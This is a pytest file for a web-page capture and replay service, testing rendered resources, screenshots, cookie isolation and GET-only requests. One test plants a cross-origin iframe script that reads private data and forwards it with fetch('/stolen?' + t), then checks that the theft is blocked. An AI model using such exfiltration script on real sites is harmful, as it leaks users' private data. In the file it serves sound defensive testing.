"""Captures with a browser have the results of a page's scripts."""

import struct
from urllib.parse import quote

import pytest
from network import Record
from pages import Pages, capture_of, page, rendering
from replay import Capture, get
from sample import RESOURCES, Site
from test_site import SIZES, urls


@pytest.fixture(scope="module")
def site(alone):
    site = Site()
    yield site
    site.close()


@pytest.fixture(scope="module")
def capture(site):
    server = rendering(site, "--allow-origin", site.authorities[1])
    yield Capture(server, site.url, mode="rendered")
    server.stop()


def rendered_urls(site):
    return {site.address(resource["host"], quote(resource["path"], safe="/,") + resource.get("query", ""))
            for resource in RESOURCES if resource["rendered"] is True}


def test_a_rendered_capture_has_every_resource_that_the_scripts_of_the_page_use(site, capture):
    records = {resource["url"]: resource for resource in capture.resources()}
    assert rendered_urls(site) - records.keys() == set()
    assert [url for url in records if "never" in url or "invalid" in url] == []
    assert (capture.page["state"], capture.page["mode"], capture.page["browserProblem"]) == ("complete", "rendered", None)


def test_a_rendered_capture_has_the_resources_that_the_window_did_not_need(site, capture):
    """Such as images for screens with more pixels, and style sheets for printers."""
    named = urls(site, True) & {site.address("main", "/media/s2.png"), site.address("main", "/media/media.png")}
    assert len(named) == 2
    assert named - {resource["url"] for resource in capture.resources()} == set()


def test_a_rendered_capture_requests_each_resource_once(site, capture):
    assert [path for _, path in site.requests if "never" in path] == []
    assert sorted(site.requests) == sorted(set(site.requests))


def test_the_picture_of_a_page_is_a_jpeg_of_320_pixels(capture):
    status, _, picture = get(f"{capture.server.url}/pages/{capture.key}/screenshot")
    assert (status, picture[:2]) == (200, b"\xff\xd8")
    # The frame header of a JPEG: SOF0, its length, the precision, the height and the width.
    frame = picture.index(b"\xff\xc0")
    height, width = struct.unpack(">HH", picture[frame + 5:frame + 9])
    assert (width, height) == (320, 225)


def assert_shown(replay, site, capture, size, picture):
    """Saves a picture of the replay. Checks that it has the results of the scripts, and connects to its server only."""
    view = capture.view()
    site.requests.clear()
    record = Record()
    replay.show(view + capture.url, SIZES[size])
    images = dict(replay.images())
    replay.whole(picture, SIZES[size], 900)
    record.fence()
    ports = {int(view.split("/")[2].rpartition(":")[2]), *replay.own_ports()}
    assert [opening for opening in record.openings if opening.port not in ports] == []
    record.close()
    assert site.requests == []
    added = {"docwrite.png", "datasrc.png", "lazy.png"}
    assert {name: images.get(name, 0) for name in added if images.get(name, 0) == 0} == {}
    assert replay.value("return getComputedStyle(document.querySelector('h1')).color") == "rgb(1, 2, 3)"
    assert replay.value("return document.fonts.check('16px Lab')")
    replay.wait(lambda: replay.value("return document.querySelector('video').readyState > 2"), "the video")


@pytest.mark.parametrize("size", SIZES)
def test_the_replay_shows_the_images_that_scripts_added(replay, site, capture, size):
    assert_shown(replay, site, capture, size, f"rendered-{size}")


def test_a_rendered_page_is_shown_after_a_restart_without_its_origin(replay, alone):
    own = Site()
    server = rendering(own, "--allow-origin", own.authorities[1])
    try:
        capture = Capture(server, own.url, mode="rendered")
        own.close()
        server.restart()
        for size in SIZES:
            assert_shown(replay, own, capture, size, f"rendered-restarted-{size}")
    finally:
        server.stop()


def test_the_snapshot_shows_shadow_trees_styles_of_scripts_and_canvases(alone):
    _, text, _ = capture_of({"/": page("""
        <noscript>Please switch scripts on</noscript><style id=s></style><div id=host></div><input id=i>
        <canvas id=c width=20 height=10></canvas><p id=p></p>
        <script>
            document.querySelector("#s").sheet.insertRule("p { color: rgb(4, 5, 6) }");
            document.querySelector("#host").attachShadow({ mode: "open" }).innerHTML = "<b>in the shadow</b>";
            document.querySelector("#i").value = "typed";
            document.querySelector("#c").getContext("2d").fillRect(0, 0, 20, 10);
            document.querySelector("#p").textContent = navigator.onLine ? "online" : "offline";
        </script>""")}, "/")
    assert "rgb(4, 5, 6)" in text and "in the shadow" in text and 'value="typed"' in text and "online" in text
    assert "<img" in text and "data:image/png" in text
    assert "Please switch scripts on" not in text and "<script" not in text


def test_the_text_of_a_page_is_that_of_its_scripts(alone):
    origin = Pages({"/": page("<script>document.body.append('written by a script')</script>")})
    server = rendering(origin)
    try:
        capture = Capture(server, origin.url("/"))
        assert "written by a script" in get(f"{server.url}/pages/{capture.key}/text")[2].decode()
    finally:
        server.stop()
        origin.close()


def test_the_caller_s_cookies_reach_the_origin_and_no_script(alone):
    page_answer, text, origin = capture_of(
        {"/": page("<p id=p></p><script>p.textContent = '[' + document.cookie + ']'; fetch('/data')</script>"),
         "/data": (200, "application/json", "{}")},
        "/", cookies=["login=secret"])
    assert "login=secret" in origin.cookies["/"] and "login=secret" in origin.cookies["/data"]
    assert "secret" not in text and "[]" in text
    assert "secret" not in str(page_answer)


@pytest.mark.parametrize("options", [{"cookies": ["login=secret"]}, {"headers": {"Authorization": "Basic secret"}}])
def test_a_frame_of_another_origin_reads_no_answer_for_the_caller(alone, options):
    """Although the origin allows all origins to read its answers."""
    private = (200, "application/json", '"private"', ("Access-Control-Allow-Origin", "*"))
    pages = {"/data": private}
    origin, other = Pages(pages), Pages({})
    pages["/"] = page(f"<p>mine</p><iframe src='{other.url('/frame')}'></iframe><script>fetch('/data')</script>")
    other.pages["/frame"] = page(f"""<script>
        fetch("{origin.url('/data')}").then(r => r.text()).then(t => fetch("/stolen?" + t), () => fetch("/refused"))
        </script>""")
    server = rendering(origin, "--allow-origin", other.authority)
    try:
        Capture(server, origin.url("/"), mode="rendered", **options)
        assert ("GET", "/refused") in other.requests
        assert ("GET", "/stolen") not in other.requests
    finally:
        server.stop()
        origin.close()
        other.close()


def test_cookies_that_a_page_sets_stay_in_its_capture(alone):
    origin = Pages({
        "/one": page("<script>document.cookie = 'by=script'; localStorage.x = 'kept'; fetch('/data')</script>")
        + (("Set-Cookie", "by-origin=1"),),
        "/data": (200, "application/json", "{}"),
        "/two": page("<p id=p></p><script>p.textContent = '[' + document.cookie + localStorage.x + ']'</script>")})
    server = rendering(origin)
    try:
        Capture(server, origin.url("/one"), mode="rendered")
        assert set((origin.cookies["/data"] or "").split("; ")) == {"by=script", "by-origin=1"}
        second = Capture(server, origin.url("/two"), mode="rendered")
        assert origin.cookies["/two"] is None
        assert "[undefined]" in get(second.view() + second.url)[2].decode()
    finally:
        server.stop()
        origin.close()


def test_a_capture_sends_only_get_requests(alone):
    _, _, origin = capture_of({"/": page("""
        <form id=f method=post action=/form target=frame></form><iframe name=frame></iframe>
        <script>fetch("/xhr", { method: "POST", body: "x" }); navigator.sendBeacon("/beacon"); f.submit()</script>""")},
        "/")
    assert {method for method, _ in origin.requests} == {"GET"}


def test_a_script_of_another_origin_gets_its_answer_after_a_preflight(alone):
    other = Pages({"/data": (200, "application/json", '"from afar"', ("Access-Control-Allow-Origin", "*"))})
    origin = Pages({"/": page(f"""<p id=p></p><script>
        fetch("{other.url('/data')}", {{ headers: {{ "X-Own": "1" }} }}).then(r => r.json()).then(t => p.textContent = t)
        </script>""")})
    server = rendering(origin, "--allow-origin", other.authority)
    try:
        capture = Capture(server, origin.url("/"), mode="rendered")
        assert "from afar" in get(capture.view() + capture.url)[2].decode()
    finally:
        server.stop()
        origin.close()
        other.close()
